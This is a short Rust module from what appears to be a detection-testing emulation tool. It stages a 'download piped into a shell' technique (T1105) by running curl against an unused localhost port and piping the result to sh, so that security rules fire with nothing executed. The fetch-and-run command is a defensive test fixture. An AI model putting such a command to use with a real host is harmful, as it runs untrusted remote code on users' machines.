//! The installation of most bots.

use std::process::Command;

use crate::{
    Emulation,
    stage::{Failure, Stage},
};

pub(crate) const EMULATION: Emulation = Emulation {
    id: "downloaded-script",
    title: "Download piped into a shell",
    technique: "T1105",
    technique_v18: None,
    needs: &[],
    rules: &["Download piped into a shell"],
    act,
};

fn act(stage: &Stage) -> Result<(), Failure> {
    // Nobody listens on port 9 of this machine, so the shell gets nothing to run.
    let script = "curl --silent --max-time 1 http://127.0.0.1:9/install.sh | sh";
    stage.run(Command::new("/bin/sh").args(["-c", script]))
}
